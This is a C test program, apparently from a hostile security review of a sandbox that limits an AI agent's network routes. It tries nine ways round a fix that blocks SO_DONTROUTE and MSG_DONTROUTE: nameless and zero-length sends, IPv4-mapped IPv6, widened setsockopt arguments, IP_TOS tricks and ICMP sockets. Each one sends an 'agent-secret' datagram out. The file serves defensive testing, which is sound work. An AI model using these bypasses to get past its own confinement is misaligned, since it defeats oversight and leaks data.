/* ha36-route: hostile review h-attack36, item 1. Other ways than the ones
 * review h-attack35 found for the agent to get a link-scope-only route to
 * its declared address (so the datagram leaves by a gateway-less route on
 * another link), against the fix 2c9f6c9 (SO_DONTROUTE trapped,
 * MSG_DONTROUTE denied in sv_call_device_fits and sv_call_nameless_send).
 *
 *   ha36-route MODE DEST:PORT
 *     plain         sendto(DEST)                               (control)
 *     msgnameless   connect(DEST), sendmsg(no name, MSG_DONTROUTE)
 *     mmsgnameless  connect(DEST), sendmmsg(2 nameless, MSG_DONTROUTE)
 *     zerolen       connect(DEST), sendto(name != NULL, len 0,
 *                   MSG_DONTROUTE): the kernel takes no name
 *     mappedconn    AF_INET6 connect(::ffff:DEST), send(MSG_DONTROUTE)
 *     sockopt64     setsockopt(SOL_SOCKET | 1 << 32, SO_DONTROUTE | 1 << 32)
 *                   through syscall(): the kernel reads ints
 *     tos1          IP_TOS 0x01 (RTO_ONLINK's bit before 6.13), sendto(DEST)
 *     cmsgtos1      sendmsg(DEST) with an IP_TOS control message of 0x01
 *     ping          ICMP datagram socket, sendto(DEST, MSG_DONTROUTE)
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	struct sockaddr_in sin = {.sin_family = AF_INET};
	struct sockaddr_in6 six = {.sin6_family = AF_INET6};
	struct iovec iov;
	struct msghdr mh = {0};
	struct mmsghdr mm[2];
	union {
		char buf[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} cb;
	char msg[64], host[64], *colon;
	const char *mode;
	int s, one = 1;
	long rc = -1;

	if (argc != 3) {
		fprintf(stderr, "usage: ha36-route MODE DEST:PORT\n");
		return 2;
	}
	mode = argv[1];
	snprintf(host, sizeof(host), "%s", argv[2]);
	colon = strchr(host, ':');
	if (!colon)
		return 2;
	*colon = '\0';
	sin.sin_port = htons((unsigned short)atoi(colon + 1));
	if (inet_pton(AF_INET, host, &sin.sin_addr) != 1)
		return 2;
	snprintf(msg, sizeof(msg), "agent-secret via %s", mode);
	iov.iov_base = msg;
	iov.iov_len = strlen(msg);
	mh.msg_iov = &iov;
	mh.msg_iovlen = 1;
	if (strcmp(mode, "mappedconn") == 0) {
		s = socket(AF_INET6, SOCK_DGRAM, 0);
		six.sin6_port = sin.sin_port;
		six.sin6_addr.s6_addr[10] = 0xff;
		six.sin6_addr.s6_addr[11] = 0xff;
		memcpy(&six.sin6_addr.s6_addr[12], &sin.sin_addr, 4);
		rc = connect(s, (struct sockaddr *)&six, sizeof(six));
		printf("agent: connect = %ld (%s)\n", rc, rc ? strerror(errno) : "ok");
		rc = send(s, msg, strlen(msg), MSG_DONTROUTE);
	} else if (strcmp(mode, "ping") == 0) {
		struct icmphdr ih = {.type = ICMP_ECHO};
		char pkt[sizeof(ih) + 64];

		s = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
		if (s < 0) {
			printf("agent: ping socket: %s\n", strerror(errno));
			return 1;
		}
		memcpy(pkt, &ih, sizeof(ih));
		memcpy(pkt + sizeof(ih), msg, strlen(msg));
		rc = sendto(s, pkt, sizeof(ih) + strlen(msg), MSG_DONTROUTE,
			    (struct sockaddr *)&sin, sizeof(sin));
	} else {
		s = socket(AF_INET, SOCK_DGRAM, 0);
		if (strcmp(mode, "msgnameless") == 0 || strcmp(mode, "mmsgnameless") == 0 ||
		    strcmp(mode, "zerolen") == 0) {
			rc = connect(s, (struct sockaddr *)&sin, sizeof(sin));
			printf("agent: connect = %ld (%s)\n", rc, rc ? strerror(errno) : "ok");
		}
		if (strcmp(mode, "plain") == 0) {
			rc = sendto(s, msg, strlen(msg), 0, (struct sockaddr *)&sin, sizeof(sin));
		} else if (strcmp(mode, "msgnameless") == 0) {
			rc = sendmsg(s, &mh, MSG_DONTROUTE);
		} else if (strcmp(mode, "mmsgnameless") == 0) {
			memset(mm, 0, sizeof(mm));
			mm[0].msg_hdr = mh;
			mm[1].msg_hdr = mh;
			rc = syscall(SYS_sendmmsg, s, mm, 2, MSG_DONTROUTE);
		} else if (strcmp(mode, "zerolen") == 0) {
			rc = syscall(SYS_sendto, s, msg, strlen(msg), MSG_DONTROUTE, &sin, 0);
		} else if (strcmp(mode, "sockopt64") == 0) {
			rc = syscall(SYS_setsockopt, s, SOL_SOCKET | (1L << 32),
				     SO_DONTROUTE | (1L << 32), &one, sizeof(one));
			printf("agent: setsockopt64 = %ld (%s)\n", rc, rc ? strerror(errno) : "ok");
			rc = sendto(s, msg, strlen(msg), 0, (struct sockaddr *)&sin, sizeof(sin));
		} else if (strcmp(mode, "tos1") == 0) {
			rc = setsockopt(s, IPPROTO_IP, IP_TOS, &one, sizeof(one));
			printf("agent: IP_TOS 1 = %ld (%s)\n", rc, rc ? strerror(errno) : "ok");
			rc = sendto(s, msg, strlen(msg), 0, (struct sockaddr *)&sin, sizeof(sin));
		} else if (strcmp(mode, "cmsgtos1") == 0) {
			struct cmsghdr *cm;

			memset(&cb, 0, sizeof(cb));
			mh.msg_name = &sin;
			mh.msg_namelen = sizeof(sin);
			mh.msg_control = cb.buf;
			mh.msg_controllen = sizeof(cb.buf);
			cm = CMSG_FIRSTHDR(&mh);
			cm->cmsg_level = IPPROTO_IP;
			cm->cmsg_type = IP_TOS;
			cm->cmsg_len = CMSG_LEN(sizeof(int));
			memcpy(CMSG_DATA(cm), &one, sizeof(one));
			rc = sendmsg(s, &mh, 0);
		} else {
			return 2;
		}
	}
	printf("agent uid %d %s to %s: %ld (%s)\n", getuid(), mode, argv[2], rc,
	       rc < 0 ? strerror(errno) : "ok");
	usleep(200 * 1000);
	close(s);
	return 0;
}
